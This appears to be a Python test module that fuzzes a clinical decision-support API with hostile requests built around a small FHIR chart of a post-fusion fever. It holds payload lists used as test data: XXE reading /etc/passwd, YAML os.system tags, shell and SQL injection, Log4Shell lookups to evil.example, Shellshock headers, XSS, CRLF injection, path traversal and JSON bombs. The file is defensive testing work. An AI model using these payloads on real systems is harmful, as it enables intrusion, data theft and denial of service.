"""Hostile inputs by table and by product, all grown from one small chart: a lumbar fusion 20 days ago and a fever today.

Every case says what its answer must be:

    refused   4xx with an OperationOutcome
    heard     refused, or 200 that shows the fever or a notice: the fever was in the bytes, so silence would be a miss
    set aside refused, or 200 with a notice and without the fever: it is not this patient's
    clean     200 (or refused) and none of the planted text anywhere in the answer
    used      200 with the fever and no notice: it is odd, but allowed, and refusing it would be a fault as well
"""

import gzip
import json
import pickle
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any, Final

from tests.stories.asking import SECRET
from tests.stories.chart import fusion, person, temperature

REFUSED, HEARD, ASIDE, CLEAN, USED = "refused", "heard", "set aside", "clean", "used"
SERVICES: Final = {
    "patient-view": "postfusion-patient-view",
    "order-sign": "postfusion-order-sign",
    "order-select": "postfusion-order-select",
    "encounter-start": "postfusion-encounter-start",
    "encounter-discharge": "postfusion-encounter-discharge",
    "problem-list-item-create": "postfusion-problem-list",
}
KEY_OF: Final = {"Patient": "patient", "Condition": "conditions", "Observation": "observations", "Procedure": "procedures"}
HOOK: Final = f"/cds-services/{SERVICES['patient-view']}"
EVERYWHERE: Final = ("/evaluate", *(f"/cds-services/{one}" for one in SERVICES.values()), f"{HOOK}/feedback", "/validate", "/timeline")
ME: Final = {"reference": "Patient/p1"}


@dataclass(frozen=True, slots=True)
class Hostile:
    """One request. `body` is made when it is needed: some are megabytes long."""

    name: str
    path: str
    body: Callable[[], bytes]
    want: str
    kind: str = "application/json"
    method: str = "POST"
    headers: dict[str, str] = field(default_factory=dict)
    environ: dict[str, Any] = field(default_factory=dict)


def _encoded(name: str) -> Callable[[bytes], bytes]:
    """The body in another encoding."""
    return lambda body: body.decode().encode(name)


def chart(**of_fever: Any) -> dict[str, Any]:
    """The Bundle, as a tree of its own each time; the keywords replace members of the fever."""
    operated = fusion("2025-03-15", subject=dict(ME))
    fever = {**temperature(39.5, "2025-04-04", id="fever", subject=dict(ME)), **of_fever}
    return as_bundle(person(), operated, fever)


def as_bundle(*resources: Any) -> dict[str, Any]:
    entries = [{"fullUrl": f"https://ehr.example.org/fhir/X/{n}", "resource": one} for n, one in enumerate(resources)]
    return json.loads(json.dumps({"resourceType": "Bundle", "type": "collection", "entry": entries}))  # type: ignore[no-any-return]


def call(bundle: dict[str, Any], hook: str = "patient-view") -> dict[str, Any]:
    """The same chart as a CDS Hooks request: its resources sorted into the prefetch keys."""
    prefetch: dict[str, Any] = {key: None for key in ("conditions", "medications", "reports")}
    for entry in bundle["entry"]:
        resource = entry["resource"]
        kind = resource.get("resourceType") if isinstance(resource, dict) else None
        key = KEY_OF.get(kind, "observations") if isinstance(kind, str) else "observations"
        if key == "patient":
            prefetch[key] = resource
        else:
            prefetch[key] = prefetch.get(key) or {"resourceType": "Bundle", "type": "searchset", "entry": []}
            prefetch[key]["entry"].append(entry)
    drafts = {"resourceType": "Bundle", "type": "collection", "entry": []}
    more: dict[str, Any] = {
        "order-sign": {"draftOrders": drafts},
        "order-select": {"draftOrders": drafts, "selections": []},
        "encounter-start": {"encounterId": "e1"},
        "encounter-discharge": {"encounterId": "e1"},
        "problem-list-item-create": {"conditions": drafts},
    }
    context = {"userId": "Practitioner/1", "patientId": "p1", **more.get(hook, {})}
    return {"hook": hook, "hookInstance": "d1577c69-dfbe-44ad-ba6d-3e05e953b2ea", "context": context, "prefetch": prefetch}


def feedback() -> dict[str, Any]:
    item = {"card": "d1577c69-dfbe-44ad-ba6d-3e05e953b2ea", "outcome": "overridden", "outcomeTimestamp": "2025-04-04T08:00:00Z"}
    return {"feedback": [item]}


def valid(path: str) -> dict[str, Any]:
    """A good body for a path."""
    if path.endswith("/feedback"):
        return feedback()
    hook = next((hook for hook, service in SERVICES.items() if path.endswith(service)), None)
    return call(chart(), hook) if hook else chart()


def text(tree: Any) -> bytes:
    return json.dumps(tree).encode()


# --- T1, T3, T4, T5: bytes that are no JSON, or no honest JSON ----------------------------------------------------------------

Spoil = Callable[[bytes], bytes]


def _at(share: float) -> Spoil:
    return lambda body: body[: int(len(body) * share)]


def _member(raw: bytes) -> Spoil:
    """The body with one more member in front."""
    return lambda body: body.replace(b"{", b'{"spoilt": ' + raw + b", ", 1)


def _raw(body: bytes) -> Spoil:
    return lambda _: body


MALFORMED: Final[dict[str, Spoil]] = {
    **{f"cut at {n} of 12": _at(n / 12) for n in range(1, 12)},
    "nothing": _raw(b""),
    "blanks": _raw(b" \r\n\t "),
    "a NUL": _raw(b"\x00"),
    "only a BOM": _raw(b"\xef\xbb\xbf"),
    "doubled": lambda body: body * 2,
    "doubled by lines": lambda body: body + b"\n" + body,
    "as a record sequence": lambda body: b"\x1e" + body + b"\n",
    "a line comment": lambda body: b"// note\n" + body,
    "a block comment": lambda body: body[:-1] + b"/* note */}",
    "a hash comment": lambda body: b"# note\n" + body,
    "a comma too many": lambda body: body[:-1] + b",}",
    "a bracket too many": lambda body: body + b"}",
    "a bracket too few": lambda body: body[:-1],
    "single quotes": lambda body: body.replace(b'"', b"'"),
    "bare keys": lambda body: body.replace(b'"', b""),
    "text behind": lambda body: body + b"x",
    "NUL behind": lambda body: body + b"\x00",
    "NUL in front": lambda body: b"\x00" + body,
    "an XSSI guard": lambda body: b")]}',\n" + body,
    "JSONP": lambda body: b"callback(" + body + b");",
    "no colon": lambda body: body.replace(b":", b" ", 1),
    "equals sign": lambda body: body.replace(b":", b"=", 1),
    "an array of it": lambda body: b"[" + body + b"]",
    "a text of it": lambda body: json.dumps(body.decode()).encode(),
    **{f"root {raw.decode()}": _raw(raw) for raw in (b"[]", b"{}", b"null", b"true", b"0", b"1e5", b'""', b'"a"', b"[[]]", b"[{}]")},
    **{
        f"member {raw.decode('latin-1')!r}": _member(raw)
        for raw in (
            b"NaN", b"-NaN", b"Infinity", b"-Infinity", b"+1", b"01", b"-01", b"0x1F", b"1.", b".5", b"1e", b"1e+", b"--1", b"1_000",
            b"nul", b"None", b"True", b"undefined", b"tru", b"'a'", b'"a', b'"\\x41"', b'"\\u12"', b'"\\u{41}"', b'"\n"', b'"\t"', b'"\x00"',
            b'"\x1f"', b"[1,]", b"[,1]", b"[1 2]", b'{"a"}', b'{"a":}', b"{1: 2}", b"{,}", b"", b"]", b"}", b"/re/", b"b'a'", b"@",
        )
    },
    **{
        f"bytes {raw!r}": _member(b'"' + raw + b'"')
        for raw in (b"\xff", b"\xfe\xff", b"\xc0\x80", b"\xed\xa0\x80", b"\xf5\x80\x80\x80", b"\xe2\x82", b"\x80", b"\xe9t\xe9", b"\xf8\x88")
    },
    **{
        f"in {name}": _encoded(name)
        for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-8-sig", "utf-7", "cp037")
        if name != "utf-7"
    },
    "xml": _raw(b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><Bundle>&x;</Bundle>'),
    "laughing xml": _raw(b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>'),
    "yaml": _raw(b"resourceType: Bundle\ntype: collection\n"),
    "a yaml alias bomb": _raw(b"a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\n"),
    "a yaml tag": _raw(b"!!python/object/apply:os.system ['true']"),
    "a form": _raw(b"resourceType=Bundle&type=collection"),
    "a pickle": lambda body: pickle.dumps(json.loads(body)),
    "gzip": lambda body: gzip.compress(body),
    "gzip twice": lambda body: gzip.compress(gzip.compress(body)),
    "zlib": lambda body: zlib.compress(body),
    "html": _raw(b"<!doctype html><script>1</script>"),
    "a shell line": _raw(b"; cat /etc/passwd #"),
    "sql": _raw(b"' OR 1=1; --"),
    "ten thousand quotes": _raw(b'"' * 10_000),
    "ten thousand backslashes": _raw(b'{"a": "' + b"\\" * 10_001),
    "a long key that never ends": _raw(b'{"' + b"k" * 100_000),
}  # fmt: skip


def _nested(kind: str, depth: int, closed: bool) -> bytes:
    opening, closing = {"arrays": (b"[", b"]"), "objects": (b'{"a":', b"}"), "both": (b'[{"a":', b"}]")}[kind]
    return opening * depth + (b"1" + closing * depth if closed else b"")


DEEP: Final[dict[str, Spoil]] = {
    f"{depth} {kind}{'' if closed else ' left open'}": _member(_nested(kind, depth, closed))
    for kind in ("arrays", "objects", "both")
    for depth in (200, 1000, 20_000, 100_000)
    for closed in (True, False)
}


def byte_cases() -> Iterator[Hostile]:
    """Every spoilt text on every surface that reads bodies; the deep ones, which are large, on four."""
    for name, spoil in MALFORMED.items():
        yield from (Hostile(f"{name} > {path}", path, _spoilt(spoil, path), REFUSED) for path in EVERYWHERE)
    for name, spoil in DEEP.items():
        for path in ("/evaluate", HOOK, f"{HOOK}/feedback", "/validate"):
            yield Hostile(f"{name} > {path}", path, _spoilt(spoil, path), REFUSED)


def _spoilt(spoil: Spoil, path: str) -> Callable[[], bytes]:
    return lambda: spoil(text(valid(path)))


# --- T2: each key of the chart and of the request twice -----------------------------------------------------------------------

_EVIL: Final[dict[str, Any]] = {
    "status": "entered-in-error", "reference": "Patient/p2", "code": "0", "id": "p2", "patientId": "p2", "value": 36.0, "unit": "x",
    "effectiveDateTime": "2020-01-01", "performedDateTime": "2010-01-01", "birthDate": "2020-01-01", "hook": "order-sign",
    "resourceType": "Basic", "valueQuantity": {"value": 36.0, "unit": "Cel"}, "subject": {"reference": "Patient/p2"}, "entry": [],
}  # fmt: skip


def _objects(tree: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], dict[str, Any]]]:
    if isinstance(tree, dict):
        yield at, tree
        for key, value in tree.items():
            yield from _objects(value, (*at, key))
    elif isinstance(tree, list):
        for number, value in enumerate(tree):
            yield from _objects(value, (*at, number))


def _written(tree: Any, twice: tuple[Any, ...], first: bool, at: tuple[Any, ...] = ()) -> str:
    """JSON in which the member at `twice` stands a second time with another value, before or behind the true one."""
    if isinstance(tree, list):
        return f"[{', '.join(_written(one, twice, first, (*at, n)) for n, one in enumerate(tree))}]"
    if not isinstance(tree, dict):
        return json.dumps(tree)
    pairs = []
    for key, value in tree.items():
        true, here = f"{json.dumps(key)}: {_written(value, twice, first, (*at, key))}", (*at, key)
        evil = f"{json.dumps(key)}: {json.dumps(_EVIL.get(key))}"
        pairs += ([evil, true] if first else [true, evil]) if here == twice else [true]
    return f"{{{', '.join(pairs)}}}"


def repeated_cases() -> Iterator[Hostile]:
    """Small bodies are refused; in large ones what a rule could use is refused or heard."""
    for path, tree in (("/evaluate", chart()), (HOOK, call(chart()))):
        for at, members in _objects(tree):
            for key in members:
                twice = (*at, key)
                name = ".".join(map(str, twice))
                for first in (True, False):
                    body = _repeating(tree, twice, first)
                    order = "false first" if first else "true first"
                    yield Hostile(f"{name} twice, {order} > {path}", path, body, REFUSED)
                large = _repeating({**tree, "filler": "x" * 300_000}, twice, False)
                yield Hostile(f"{name} twice in a large body > {path}", path, large, HEARD)


def _repeating(tree: Any, twice: tuple[Any, ...], first: bool) -> Callable[[], bytes]:
    return lambda: _written(tree, twice, first).encode()


# --- T3, T4, and section 3: what is JSON but not what a resource holds ----------------------------------------------------------

JUNK: Final[dict[str, Any]] = {
    "null": None, "true": True, "zero": 0, "a number": -1.5, "an empty text": "", "a text": SECRET, "an array": [], "an array of null": [None],
    "an array of texts": ["a"], "an array of arrays": [[]], "an object": {}, "an odd object": {SECRET: SECRET}, "blanks": "  ",
}  # fmt: skip
NUMBERS: Final = {
    "1e400": b"1e400", "-1e400": b"-1e400", "an exponent bomb": b"1e999999999", "a tiny one": b"1e-999999999", "5000 digits": b"9" * 5000,
    "5000 places": b"0." + b"9" * 5000, "-0": b"-0", "40 digits": b"4" * 40, "2**64": b"18446744073709551616", "300 zeros": b"1" + b"0" * 300,
    "a number in exponents": b"395000000000000000000e-19",
}  # fmt: skip


def _put(tree: Any, at: tuple[Any, ...], value: Any) -> Any:
    """A copy of the tree with another value at one place."""
    if not at:
        return value
    if isinstance(tree, dict):
        return {**tree, at[0]: _put(tree.get(at[0]), at[1:], value)}
    return [*tree[: at[0]], _put(tree[at[0]], at[1:], value), *tree[at[0] + 1 :]]


_FEVER: Final = ("entry", 2, "resource")
_PLACES: Final = [
    ("entry",), ("entry", 0), ("entry", 0, "resource"), ("entry", 1), ("entry", 1, "resource"), ("entry", 2), _FEVER,
    *((*_FEVER, name) for name in ("resourceType", "status", "code", "effectiveDateTime", "valueQuantity", "subject")),
    (*_FEVER, "code", "coding"), (*_FEVER, "code", "coding", 0), (*_FEVER, "valueQuantity", "value"), (*_FEVER, "valueQuantity", "unit"),
    (*_FEVER, "subject", "reference"), ("entry", 1, "resource", "performedDateTime"), ("entry", 1, "resource", "code"),
    ("entry", 1, "resource", "status"), ("entry", 0, "resource", "birthDate"), ("entry", 0, "resource", "id"), ("type",), ("link",),
    ("total",), ("entry", 0, "resource", "deceasedBoolean"), (*_FEVER, "component"), (*_FEVER, "modifierExtension"), (*_FEVER, "extension"),
    (*_FEVER, "id"), (*_FEVER, "meta"), ("entry", 2, "fullUrl"), ("entry", 2, "search"), ("meta",),
]  # fmt: skip
# leaving these out is no fault of the data: an absent code or date may be none of ours, a null is an absence, an empty list is none
_ABSENT: Final = (None, [], {}, "", "  ", [None])
_LEFT_OUT: Final = (("entry",), ("entry", 1, "resource"), ("entry", 2), _FEVER)


def shape_cases() -> Iterator[Hostile]:
    """Every kind of junk at every place of the chart, as a Bundle and as a request."""
    for place in _PLACES:
        for name, junk in JUNK.items():
            if place[-1] == "id" and junk == SECRET:
                continue  # a fine id, which references may name
            tree = _put(chart(), place, junk)
            want = CLEAN if _gone(place, junk) else HEARD
            where = ".".join(map(str, place))
            yield Hostile(f"{where} is {name} > /evaluate", "/evaluate", _text_of(tree), want)
            if len(place) > 2:
                yield Hostile(f"{where} is {name} > {HOOK}", HOOK, _text_of(call(tree)), want)
    for place in ((*_FEVER, "valueQuantity", "value"), ("total",), (*_FEVER, "spoilt"), ("spoilt",)):
        for name, raw in NUMBERS.items():
            for path in ("/evaluate", HOOK, "/validate"):
                tree = _put(chart(), place, "@number@")
                body = _numbered(call(tree) | {"spoilt": "@number@"} if path == HOOK else tree, raw)
                yield Hostile(
                    f"{'.'.join(map(str, place))} is {name} > {path}", path, body, CLEAN if name in ("-0", "a tiny one") else HEARD
                )


def _gone(place: tuple[Any, ...], junk: Any) -> bool:
    """True where the junk honestly says that there is nothing to judge: no entry, another kind of thing, a patient who died."""
    if place[-1] == "deceasedBoolean" or (len(place) == 2 and isinstance(junk, dict)):
        return True
    if (place[-1] == "resourceType" and isinstance(junk, str)) or ("code" in place and isinstance(junk, dict)):
        return True
    said_nothing = any(type(junk) is type(one) and junk == one for one in _ABSENT)
    return said_nothing and (place in _LEFT_OUT or "code" in place)


def _text_of(tree: Any) -> Callable[[], bytes]:
    return lambda: text(tree)


def _numbered(tree: Any, raw: bytes) -> Callable[[], bytes]:
    return lambda: text(tree).replace(b'"@number@"', raw)


def _filled(inner: Callable[[], bytes], *, in_fever: bool = False) -> Callable[[], bytes]:
    """The chart with a large member, in the fever or in the Bundle."""
    tree = _put(chart(), (*_FEVER, "spoilt") if in_fever else ("spoilt",), "@here@")
    return lambda: text(tree).replace(b'"@here@"', inner())


WIDE: Final[dict[str, Callable[[], bytes]]] = {
    "a million empty objects": lambda: b"[" + b"{}," * 1_000_000 + b"{}]",
    "a million empty arrays": lambda: b"[" + b"[]," * 1_000_000 + b"[]]",
    "three million numbers": lambda: b"[" + b"1," * 3_000_000 + b"1]",
    "200,000 members": lambda: b"{" + b",".join(b'"k%d":1' % n for n in range(200_000)) + b"}",
    "a text of 15 MB": lambda: b'"' + b"x" * 15_000_000 + b'"',
    "a text of 15 MB of escapes": lambda: b'"' + b"\\\\" * 7_500_000 + b'"',
    "a text of 2 million surrogate halves": lambda: b'"' + b"\\ud800" * 2_000_000 + b'"',
    "a text of brackets": lambda: b'"' + b"[{" * 3_000_000 + b'"',
    "a text of 17 MB": lambda: b'"' + b"x" * 17_000_000 + b'"',
    "a key of 5 MB": lambda: b'{"' + b"k" * 5_000_000 + b'": 1}',
    "ten million blanks": lambda: b" " * 10_000_000 + b"1",
    "60,000 short arrays": lambda: b"[" + b"[[[]]]," * 60_000 + b"1]",
    "an integer of a million digits": lambda: b"9" * 1_000_000,
}


def wide_cases() -> Iterator[Hostile]:
    """Wide bodies on the surfaces that parse most."""
    for name, inner in WIDE.items():
        yield Hostile(f"{name} > /evaluate", "/evaluate", _filled(inner), HEARD)
        yield Hostile(f"{name} in a resource > /evaluate", "/evaluate", _filled(inner, in_fever=True), HEARD)
    one = text(chart()["entry"][2])
    entries = {"20,001 entries": b"{}", "400 KB of null entries": b"null", "30,000 fevers": one}
    for name, entry in entries.items():
        count = {"400 KB of null entries": 80_000}.get(name, 30_000 if entry is one else 20_001)
        yield Hostile(f"{name} > /evaluate", "/evaluate", _many(entry, count), REFUSED)


def _many(entry: bytes, count: int) -> Callable[[], bytes]:
    return lambda: text(_put(chart(), ("entry",), "@here@")).replace(b'"@here@"', b"[" + (entry + b",") * (count - 1) + entry + b"]")


# --- T14, T16, T17: names, texts and ids --------------------------------------------------------------------------------------

TEXTS: Final = [
    f"{SECRET}](https://evil.example)", f"<script>{SECRET}</script>", f"<img src=x onerror={SECRET}>", f"![{SECRET}](https://evil.example/p)",
    f"`{SECRET}`\n# {SECRET}", f"{{{{{SECRET}}}}}", f"${{jndi:ldap://evil.example/{SECRET}}}", f"{SECRET}\u2028{SECRET}", f"\x1b[31m{SECRET}",
    f"{SECRET}\x00", f"{SECRET}\ud800", f"{SECRET}\r\nX-Evil: 1", f"'; DROP TABLE decisions; -- {SECRET}", f"\u202e{SECRET}", f"%s%n{SECRET}",
    f"../../{SECRET}", f"{SECRET}" * 20_000,
]  # fmt: skip
_TEXTED: Final = [
    *((*_FEVER, *rest) for rest in (
        ("code", "text"), ("code", "coding", 0, "display"), ("note",), ("interpretation",), ("text",), ("valueQuantity", "unit"), ("id",),
        ("bodySite",), ("method",), ("performer",), ("status",), ("effectiveDateTime",), ("code", "coding", 0, "system"),
    )),
    ("entry", 2, "fullUrl"), ("entry", 0, "resource", "name"), ("entry", 1, "resource", "id"), ("id",), ("entry", 0, "resource", "birthDate"),
]  # fmt: skip
_AS: Final[dict[str, Callable[[str], Any]]] = {
    "note": lambda one: [{"text": one}],
    "interpretation": lambda one: [{"text": one}],
    "text": lambda one: one,
    "bodySite": lambda one: {"text": one},
    "method": lambda one: {"text": one},
    "performer": lambda one: [{"display": one}],
    "name": lambda one: [{"text": one}],
}


def text_cases() -> Iterator[Hostile]:
    """Each text in each element that holds one. The fever stays or its loss is said, and nothing is quoted."""
    for place in _TEXTED:
        for number, one in enumerate(TEXTS):
            value = _AS.get(str(place[-1]), lambda same: same)(one) if place != (*_FEVER, "code", "text") else one
            if place == (*_FEVER, "text"):
                value = {"status": "generated", "div": f"<div>{one}</div>"}
            want = CLEAN if place[-1] == "system" else HEARD
            body = _text_of(_put(chart(), place, value))
            yield Hostile(f"text {number} in {'.'.join(map(str, place))} > /evaluate", "/evaluate", body, want)
    for number, one in enumerate(TEXTS):
        for member in ("hook", "hookInstance", "fhirServer", "extension"):
            request = call(chart()) | {member: one}
            yield Hostile(f"text {number} in {member} > {HOOK}", HOOK, _text_of(request), HEARD)
        for member in ("userId", "patientId", "encounterId", "odd"):
            request = _put(call(chart()), ("context", member), one)
            yield Hostile(f"text {number} in context.{member} > {HOOK}", HOOK, _text_of(request), HEARD)
        odd = _put(call(chart()), ("prefetch", one), {"resourceType": one})
        yield Hostile(f"text {number} as a prefetch key > {HOOK}", HOOK, _text_of(odd), HEARD)
        item = feedback()["feedback"][0]
        for member in ("card", "outcome", "outcomeTimestamp"):
            sent = {"feedback": [item | {member: one}]}
            yield Hostile(f"text {number} in feedback {member}", f"{HOOK}/feedback", _text_of(sent), CLEAN)
        why = {"overrideReason": {"reason": {"code": one[:200], "system": one[:200]}, "userComment": one[:9000]}}
        yield Hostile(f"text {number} as a reason", f"{HOOK}/feedback", _text_of({"feedback": [item | why]}), CLEAN)


NOT_ME: Final = [
    "Patient/p2", "Patient/p", "Patient/p11", "Patient/P1", "Patient/p1/", "Patient/p1x", "Group/p1", "Device/p1",
    "Location/p1", "patient/p1", "p1", "Patient/p1?x=1", "Patient/p1#x", "#p1", "#", "Patient//p1", "Patient/%70%31", "Patient/../p1",
    "Patient/p2/../p1", "Patient/p1\x00", "Patient/p1,Patient/p2", "Patient/p2/_history/1", "Patient?identifier=p1", "urn:oid:1.2.3",
    "http://evil.example/Patient/p2", "https://evil.example/fhir/Patient/p1x", "javascript:Patient/p1", "Patient/\u03c11", "Patient/p\u0661", "Group/1",
    "RelatedPerson/p1", "Patient/" + "p1" * 500,
]  # fmt: skip


def subject_cases() -> Iterator[Hostile]:
    """A fever whose subject is not this patient, or cannot be told to be."""
    for one in NOT_ME:
        tree = chart(subject={"reference": one})
        for path, body in (("/evaluate", tree), (HOOK, call(tree)), ("/timeline", tree)):
            yield Hostile(f"subject {one[:40]!r} > {path}", path, _text_of(body), ASIDE if path != "/timeline" else CLEAN)
    for name, subject in {
        "display": {"display": "p1"},
        "identifier": {"identifier": {"value": "p1"}},
        "nothing": {},
        "type": {"type": "Patient"},
    }.items():
        tree = chart(subject=subject)
        yield Hostile(f"subject of a {name} only > /evaluate", "/evaluate", _text_of(tree), ASIDE)
    for number, one in enumerate(("p2", "P1", "p11", "p", "p1 ", "", "../p1", "p1\x00", None, 1, ["p1"])):
        yield Hostile(f"patient in context {number} > {HOOK}", HOOK, _text_of(_put(call(chart()), ("context", "patientId"), one)), REFUSED)
    two = chart()
    two["entry"].append({"resource": person("p2")})
    yield Hostile("two patients > /evaluate", "/evaluate", _text_of(two), REFUSED)


# --- T6, T7, T9, T10: around the body -----------------------------------------------------------------------------------------

TYPES: Final = [
    "", "text/plain", "text/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "text/xml",
    "application/fhir+xml", "application/x-yaml", "application/x-python-pickle", "application/octet-stream", "application/jsonp", "*/*",
    "application/*", "application/json-patch+json", "application/vnd.api+json", "text/html", "json", "application/jsonx", "image/svg+xml",
    "application/json; charset=utf-16", "application/json; charset=latin1", "application/json; charset=utf-7", "text/plain; application/json",
]  # fmt: skip
ENCODINGS: Final = [
    "gzip",
    "deflate",
    "br",
    "zstd",
    "compress",
    "x-gzip",
    "gzip, gzip",
    "identity, gzip",
    "GZIP",
    "snappy",
    "gzip;q=1",
    "\x0bgzip",
]
PATHS: Final = [
    "/../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/static/../../settings.py", "/static/..%2f..%2fapp.py", "/static/%2e%2e/app.py",
    "/static//etc/passwd", "/static/", "/static", "/rules/..", "/rules/../LOCK", "/rules/%2e%2e%2fLOCK", "/rules/..%5cLOCK", "/rules/%00", "/rules/a%00.yaml",
    "/rules/{{7*7}}", "/rules/${7*7}", "/rules/<script>", "/rules/%0d%0aX-Evil:1", "/rules/" + "a" * 5000, "/rules/red-flag-infection/..", "/rules/a/b/c/d",
    "/rules/red-flag-infection/%00", "/console", "/debug", "/?__debugger__=yes&cmd=resource&f=style.css", "/.env", "/.git/config", "/admin", "/actuator/env",
    "/server-status", "/wp-login.php", "/phpinfo.php", "/cgi-bin/test", "/metrics/../evaluate", "//evaluate", "/evaluate/", "/evaluate//", "/EVALUATE",
    "/evaluate%20", "/evaluate;x=1", "/evaluate.json", "/cds-services/", "/cds-services/..", "/cds-services/%00", "/cds-services/{{7*7}}/feedback",
    "/cds-services/postfusion-patient-view/", "/cds-services/postfusion-patient-view/feedback/x", "/cds-services/" + "x" * 8000, "/%ff%fe", "/%c0%ae%c0%ae/",
    "/\u2028", "/favicon.ico", "/robots.txt", "/openapi.json", "/docs/..%2f", "/reports", "/reports/", "/reports/feedback/..", "/livez/x", "/version/..",
]  # fmt: skip
HEADERS: Final[list[tuple[str, str]]] = [
    ("X-HTTP-Method-Override", "DELETE"), ("X-Forwarded-Host", SECRET), ("X-Forwarded-For", f"127.0.0.1, {SECRET}"), ("Host", f"{SECRET}.example"),
    ("Host", "a:b:c"), ("Host", "[::1"), ("Host", "a" * 300), ("X-Request-Id", SECRET), ("Accept", SECRET), ("Accept", "*/*;q=x"), ("Accept", "," * 5000),
    ("Accept", "text/html"), ("Accept-Encoding", "gzip"), ("Authorization", "Bearer"), ("Authorization", f"Bearer {SECRET}"), ("Authorization", "Basic " + "A" * 9000),
    ("Authorization", "Bearer a.b.c"), ("Authorization", "\xff"), ("Cookie", f"session={SECRET}"), ("Cookie", "=" * 4000), ("Origin", "null"),
    ("Origin", f"https://{SECRET}.example"), ("Referer", SECRET), ("User-Agent", f"() {{ :; }}; echo {SECRET}"), ("User-Agent", f"${{jndi:ldap://{SECRET}}}"),
    ("Range", "bytes=0-1,0-1,0-1"), ("If-None-Match", "*"), ("If-Match", SECRET), ("If-Modified-Since", SECRET), ("Expect", "100-continue"),
    ("Upgrade", "websocket"), ("Connection", "close, Content-Length"), ("Forwarded", f"for={SECRET}"), ("X-Original-URL", "/admin"), ("TE", "trailers"),
    ("X-Rewrite-Url", "/admin"), ("Content-Language", SECRET), ("X-Long", "x" * 60_000), ("Prefer", "respond-async"), ("Max-Forwards", "0"),
]  # fmt: skip
LENGTHS: Final = ["-1", "x", "1e3", "0x10", "99999999999999999999", " 5", "5, 5", "+5", "1", "999999"]
QUERIES: Final = [
    "asOf=" + SECRET, "asOf=2025-04-04&asOf=2020-01-01", "asOf=-1", "asOf=99999-01-01", "asOf=2025-04-04T00:00:00%2B99:00", "asOf=%00", "asOf=%ff",
    "asOf=0000-00-00", "asOf=2025-02-30", "asOf=2025-W01", "rulesAsOf=x", "rulesAsOf=2025-04-04T00:00:00Z", "patient=", "patient=..%2fp1", "patient=p1%00",
    "patient=" + "p" * 65, "patient=p1&patient=p2", "patient=p2", "pin=" + SECRET, "pin=@", "pin=a@1.0.0@2", "&".join(["pin=a@1.0.0"] * 65), "explain=maybe",
    "explain=", SECRET + "=1", "asof=2025-04-04", "a[]=1", "=1", "pin=red-flag-infection@%2e%2e", "asOf=2025-04-04T25:00:00Z", "asOf=%F0%9F%92%A9",
    "asOf=\u0662\u0660\u0662\u0665-04-04", "pin=" + "9" * 5000, "pin=red-flag-infection@1.0.0%0a", "asOf=0001-01-01", "asOf=9999-12-31",
]  # fmt: skip


def around_cases() -> Iterator[Hostile]:
    """Types, encodings, lengths, headers, queries and paths."""
    surfaces = ("/evaluate", HOOK, f"{HOOK}/feedback", "/validate", "/timeline")
    for path in surfaces:
        good = _text_of(valid(path))
        yield from (Hostile(f"type {kind!r} > {path}", path, good, REFUSED, kind=kind) for kind in TYPES)
        yield from (Hostile(f"coded {code!r} > {path}", path, good, REFUSED, headers={"Content-Encoding": code}) for code in ENCODINGS)
        for size in LENGTHS:
            yield Hostile(f"length {size!r} > {path}", path, good, CLEAN, environ={"CONTENT_LENGTH": size})
    for name, value in HEADERS:
        yield from (
            Hostile(f"{name}: {value[:20]!r} > {path}", path, _text_of(valid(path)), HEARD, headers={name: value})
            for path in ("/evaluate", HOOK)
        )
    yield from (Hostile(f"query {one[:30]!r}", f"/evaluate?{one}", _text_of(chart()), REFUSED) for one in QUERIES)
    for path in PATHS:
        for method in ("GET", "POST", "PUT"):
            yield Hostile(f"{method} {path[:50]}", path, _text_of(chart()), CLEAN, method=method)
